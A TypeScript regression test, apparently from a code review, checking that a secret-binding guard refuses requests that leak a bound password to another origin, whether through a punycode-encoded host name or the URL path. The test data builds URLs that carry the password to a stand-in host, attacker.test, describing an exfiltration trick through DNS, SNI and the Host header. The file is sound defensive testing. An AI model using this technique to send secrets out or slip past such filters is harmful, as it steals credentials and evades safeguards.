// Found in review of 01dea4a (a secret in a URL's host name is searched in lower case). The invariant:
// no held secret leaves for an origin it is not bound to. A host name is not only lowercased by the URL
// parser: a label with a character outside ASCII goes out as punycode (`xn--…`, UTS 46), in DNS, TLS SNI
// and the Host header — a reversible encoding of the secret. SecretBindings.foreignIn finds the secret
// in the URL as written, but carries() (bindings.ts urlCarries/inHost) then searches only the parsed URL
// and its origin, in plain and lowercased forms, finds nothing, and refusal() lets the request leave.
// The same password in the path is refused (control). A password with a non-ASCII letter is ordinary.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { domainToUnicode } from 'node:url';
import { SecretBindings } from '../../src/core/secrets/bindings';

const SECRET = 'Geheim-Pässwort-42';

function bindings(): SecretBindings {
  const b = new SecretBindings();
  b.bind(SECRET, ['http://127.0.0.1:41000'], "the password of auth 'svc'");
  return b;
}

void describe('a non-ASCII secret in the host name of a request to another origin', () => {
  void it('the host the request goes to carries the secret (punycode decodes to it)', () => {
    const host = new URL(`http://${SECRET}.attacker.test/items`).hostname;
    assert.match(host, /^xn--/);
    assert.equal(domainToUnicode(host).split('.')[0], SECRET.toLowerCase());
  });

  void it('is refused as written', () => {
    const refusal = bindings().refusal({ method: 'GET', url: `http://${SECRET}.attacker.test/items`, headers: {} });
    assert.ok(refusal, 'a request whose host name is the password (as punycode) left for the attacker');
  });

  void it('is refused as the URL parser writes it (punycode)', () => {
    const url = new URL(`http://${SECRET}.attacker.test/items`).toString();
    const refusal = bindings().refusal({ method: 'GET', url, headers: {} });
    assert.ok(refusal, `${url} left for the attacker`);
  });

  void it('is refused in the path, as a control', () => {
    assert.ok(bindings().refusal({ method: 'GET', url: `http://attacker.test/${SECRET}`, headers: {} }));
  });
});
